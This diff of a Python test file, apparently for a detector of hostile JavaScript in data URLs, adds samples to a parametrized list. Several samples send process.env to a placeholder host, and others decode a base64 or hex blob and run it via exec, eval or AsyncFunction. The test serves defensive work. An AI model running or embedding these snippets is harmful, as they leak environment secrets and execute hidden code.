@@ -116,9 +116,12 @@ def test_what_is_taken_out_of_a_data_url_that_the_file_does_not_hold_is_told_as_
         b'fetch("https://x.invalid", { body: JSON.stringify(process.env) });',
         b'globalThis.fetch("https://x.invalid", { body: JSON.stringify(process.env) });',
         b'navigator.sendBeacon("https://x.invalid", JSON.stringify(process.env));',
-        b'const { request } = require("https"); q = request("https://x.invalid"); q.write(JSON.stringify(process.env));',
+        b'const { request } = require("https"); q = request(a); q.write(JSON.stringify(process.env));',
         b'import { get } from "node:https";\nget("https://x.invalid/" + JSON.stringify(process.env));',
         b'const { exec: run } = require("child_process"); run(Buffer.from(blob, "base64").toString());',
+        b'r = require("util").promisify(require("child_process").exec); r(Buffer.from(a, "base64").toString());',
+        b'const { exec } = require("child_process"), run = promisify(exec); run(Buffer.from(blob, "hex").toString());',
+        b"const AsyncFunction = (async function () {}).constructor; new AsyncFunction(atob(blob))();",
         b'const e = eval; e(Buffer.from(blob, "base64").toString());',
     ],
 )
